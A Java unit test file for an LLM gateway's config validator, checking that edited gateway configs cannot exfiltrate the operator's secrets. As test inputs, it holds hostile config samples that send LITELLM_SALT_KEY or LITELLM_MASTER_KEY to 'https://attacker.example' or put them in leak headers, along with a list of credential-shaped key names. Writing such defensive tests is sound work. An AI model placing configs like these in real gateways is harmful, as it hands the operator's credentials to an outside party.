package io.llmgw.model;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import io.llmgw.TestGateways;

/**
 * Someone who may edit a gateway but not read Secrets must not be able to make the config carry a secret away:
 * neither by naming the operator's own variables nor by writing a secret into the ConfigMap.
 */
class ConfigExfiltrationTest {
    static List<String> reasons(String spec) {
        return GatewayModelValidationTest.problems(spec).stream().map(p -> p.reason().wire()).toList();
    }

    @ParameterizedTest
    @ValueSource(strings = { "LITELLM_MASTER_KEY", "LITELLM_SALT_KEY", "DATABASE_URL", "REDIS_PASSWORD", "LITELLM_MODE",
            "os.environ/LITELLM_SALT_KEY" })
    void theConfigCannotNameTheOperatorsVariables(String variable) {
        String spec = """
                models:
                  - name: a
                    model: openai/a
                    apiBase: {value: "https://attacker.example"}
                    litellmParams: {api_key: os.environ/%s}
                database: {type: CloudNativePG}
                cache: {type: Dragonfly}
                """.formatted(variable);
        assertThat(reasons(spec)).contains("ForbiddenEnvReference");
    }

    @Test
    void anyFieldAnySection() {
        assertThat(reasons("""
                models:
                  - {name: a, model: os.environ/LITELLM_MASTER_KEY}
                """)).containsExactly("ForbiddenEnvReference");
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, apiBase: {value: os.environ/LITELLM_SALT_KEY}}
                """)).containsExactly("ForbiddenEnvReference");
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, litellmParams: {extra_headers: {X-Leak: os.environ/LITELLM_MASTER_KEY}}}
                """)).containsExactly("ForbiddenEnvReference");
        for (String section : List.of("litellmSettings", "generalSettings", "routerSettings")) {
            assertThat(reasons("""
                    models:
                      - {name: a, model: openai/a}
                    %s: {extra: {callback_url: os.environ/LITELLM_SALT_KEY}}
                    """.formatted(section))).as(section).containsExactly("ForbiddenEnvReference");
        }
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a}
                mcpServers: {leak: {url: "https://x.example/mcp", headers: {X-K: os.environ/LITELLM_MASTER_KEY}}}
                """)).containsExactly("ForbiddenEnvReference");
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a}
                envFrom: [{secretRef: {name: all-keys}}]
                generalSettings: {extra: {x: os.environ/LITELLM_MASTER_KEY}}
                """)).as("envFrom does not excuse a forbidden name").contains("ForbiddenEnvReference");
    }

    @Test
    void onlyWhereTheOperatorWritesItIsItsReferenceExcused() {
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a}
                generalSettings: {extra: {database_url: os.environ/DATABASE_URL}}
                """)).as("no database: the user wrote it, nothing sets it").containsExactly("UnsetEnvReference");
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a}
                generalSettings: {extra: {database_url: os.environ/DATABASE_URL}}
                database: {type: CloudNativePG}
                """)).as("with a database the operator writes the same value there").isEmpty();
    }

    @Test
    void theGatewaysOwnVariablesAreFine() {
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, apiKey: {secretKeyRef: {name: openai, key: api-key}}, litellmParams: {organization: os.environ/ORG}}
                env: [{name: ORG, valueFrom: {secretKeyRef: {name: openai, key: org}}}]
                database: {type: CloudNativePG}
                """)).isEmpty();
    }

    @Test
    void theEnvironmentCannotCopyTheOperatorsSecrets() {
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, litellmParams: {api_key: os.environ/X}}
                env: [{name: X, valueFrom: {secretKeyRef: {name: gw-keys, key: salt-key}}}]
                """)).containsExactly("ForbiddenEnvReference");
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, litellmParams: {api_key: os.environ/X}}
                env: [{name: X, value: "$(LITELLM_MASTER_KEY)"}]
                """)).containsExactly("ForbiddenEnvReference");
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a}
                envFrom: [{secretRef: {name: gw-db-app}}]
                database: {type: CloudNativePG}
                """)).contains("ForbiddenEnvReference");
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, apiKey: {secretKeyRef: {name: gw-db-app, key: password}}}
                database: {type: CloudNativePG}
                """)).as("a Secret ref to the operator's Secret").containsExactly("ForbiddenEnvReference");
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, apiKey: {secretKeyRef: {name: mine, key: salt}}}
                saltKeySecretRef: {name: mine, key: salt}
                masterKeySecretRef: {name: mine, key: master}
                """)).as("a user's salt key is the operator's to inject").containsExactly("ForbiddenEnvReference");
    }

    @ParameterizedTest
    @ValueSource(strings = { "vertex_credentials", "private_key", "credentials", "api_key_2", "x-api-key", "Authorization",
            "client_secret", "aws_secret_access_key", "access_token", "db_password", "X-Goog-Api-Key", "refresh_token", "master_key" })
    void credentialShapedKeysHoldNoLiteral(String key) {
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, litellmParams: {"%s": "literal-value-123"}}
                """.formatted(key))).containsExactly("PlainSecretInConfig");
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, litellmParams: {extra_headers: {"%s": "literal-value-123"}}}
                """.formatted(key))).as("in a nested header map").containsExactly("PlainSecretInConfig");
    }

    @ParameterizedTest
    @ValueSource(strings = { "max_tokens", "budget_tokens", "litellm_credential_name", "auth_type", "user_header_name", "max_input_tokens" })
    void countsAndNamesAreNotSecrets(String key) {
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, litellmParams: {"%s": "5"}}
                """.formatted(key))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = { "postgres://u:pw@h/db", "redis://:pw@cache:6379", "https://user:pass@api.example/v1", "HTTP://A:B@C" })
    void urlsWithAPasswordAreRefusedAnywhere(String url) {
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a}
                generalSettings: {extra: {database_url: "%s"}}
                """.formatted(url))).containsExactly("PlainSecretInConfig");
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, apiBase: {value: "%s"}}
                """.formatted(url))).containsExactly("PlainSecretInConfig");
    }

    @Test
    void urlsWithoutAPasswordAreFine() {
        assertThat(reasons("""
                models:
                  - {name: a, model: openai/a, apiBase: {value: "https://user@api.example:8443/v1?a=b:c@d"}}
                """)).isEmpty();
    }

    @Test
    void aRefusedModelNeverReachesTheEgressPolicy() {
        var result = GatewayModel.build(TestGateways.gateway("""
                models:
                  - {name: a, model: openai/a, apiBase: {value: "https://attacker.example"}, litellmParams: {api_key: os.environ/LITELLM_SALT_KEY}}
                networkPolicy: {cilium: {enabled: true}}
                """), SecretLookup.offline());
        assertThat(result.valid()).isFalse();
        assertThat(result.model()).as("no model, so no CiliumNetworkPolicy is rendered for it").isNull();
    }
}
